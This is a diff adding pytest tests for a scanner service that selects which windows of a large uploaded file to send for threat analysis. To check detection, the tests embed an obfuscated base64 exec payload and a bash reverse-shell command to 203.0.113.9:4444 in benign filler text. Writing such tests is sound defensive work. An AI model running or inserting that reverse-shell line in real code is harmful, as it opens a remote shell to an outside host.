@@ -0,0 +1,90 @@
+import io
+import base64
+import random
+
+from app.services.window_service import WindowService, BYTES_PER_TOKEN, PROMPT_TOKENS
+
+LINES = [
+    "def handle_{n}(request, user_id):\n    record = db.get(user_id)\n    return render(request, record)\n",
+    "    logger.info('processed %d records in batch {n}', count)\n",
+    "The quarterly report for region {n} shows steady growth in subscriptions.\n",
+    "    subprocess.run(['git', 'status'], check=True)  # developer helper {n}\n",
+]
+
+
+def benign(size, seed=1):
+    rng = random.Random(seed)
+    out = []
+    total = 0
+    while total < size:
+        line = rng.choice(LINES).format(n=rng.randint(0, 999))
+        out.append(line)
+        total += len(line)
+    return "".join(out)[:size]
+
+
+def test_payload_deep_in_the_file_is_selected():
+    service = WindowService(window_bytes=8000, token_budget=2 * (8000 // BYTES_PER_TOKEN + PROMPT_TOKENS))
+    text = benign(400_000)
+    payload = "exec(__import__('base64').b64decode('" + base64.b64encode(b"import socket;" * 40).decode() + "'))\n"
+    at = text.index("\n", 250_000) + 1
+    data = (text[:at] + payload + text[at:]).encode()
+
+    selected, total = service.prepare(io.BytesIO(data))
+    assert total == -(-len(data) // 8000)
+    assert [w.index for w in selected] == [0, at // 8000]
+    assert selected[1].offset <= at < selected[1].offset + selected[1].length
+    assert selected[1].text == data[selected[1].offset:selected[1].offset + 8000].decode()
+
+
+def test_clean_file_sends_only_the_head():
+    service = WindowService(window_bytes=8000, token_budget=100_000)
+    selected, total = service.prepare(io.BytesIO(benign(300_000).encode()))
+    assert total > 30
+    assert [w.index for w in selected] == [0]
+
+
+def test_budget_caps_windows_and_keeps_file_order():
+    per_call = 8000 // BYTES_PER_TOKEN + PROMPT_TOKENS
+    service = WindowService(window_bytes=8000, token_budget=3 * per_call)
+    chunks = [benign(8000, seed=i) for i in range(20)]
+    for i in (4, 9, 15, 18):
+        chunks[i] = chunks[i][:6000] + "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n" + chunks[i][6000:7950]
+    windows = service.score(io.BytesIO("".join(chunks).encode()))
+    selected = service.select(windows)
+    assert len(selected) == 3
+    assert selected[0].index == 0
+    assert [w.offset for w in selected] == sorted(w.offset for w in selected)
+    assert all(w.signals["indicators"] for w in selected[1:])
+
+
+def test_signature_hint_boosts_its_window():
+    service = WindowService(window_bytes=8000, token_budget=100_000)
+    data = benign(200_000).encode()
+    windows = service.score(io.BytesIO(data), hint_offsets=[123_456])
+    hinted = [w for w in windows if w.signals.get("signature_hit")]
+    assert [w.index for w in hinted] == [123_456 // 8000]
+    assert [w.index for w in service.select(windows)] == [0, 123_456 // 8000]
+
+
+def test_empty_file():
+    assert WindowService().prepare(io.BytesIO(b"")) == ([], 0)
+
+
+def test_whitespace_only_file_has_nothing_to_send():
+    windows, total = WindowService(window_bytes=8000).prepare(io.BytesIO(b" \n\t" * 10_000))
+    assert windows == [] and total == 4
+
+
+def test_blank_upload_is_not_given_the_fallback_verdict():
+    import hashlib
+    from fastapi.testclient import TestClient
+    from app.main import app
+    from app.services.cache_service import verdict_cache
+
+    for body in (b"", b"   \n\n\t  \n"):
+        with TestClient(app) as client:
+            result = client.post("/api/analyze/file", files={"file": ("notes.txt", body, "text/plain")}).json()
+        assert result["risk_score"] == 0 and result["threats"] == []
+        assert result["source"] == "CyberSpy Heuristics"
+        assert verdict_cache.get(hashlib.sha256(body).hexdigest()) is None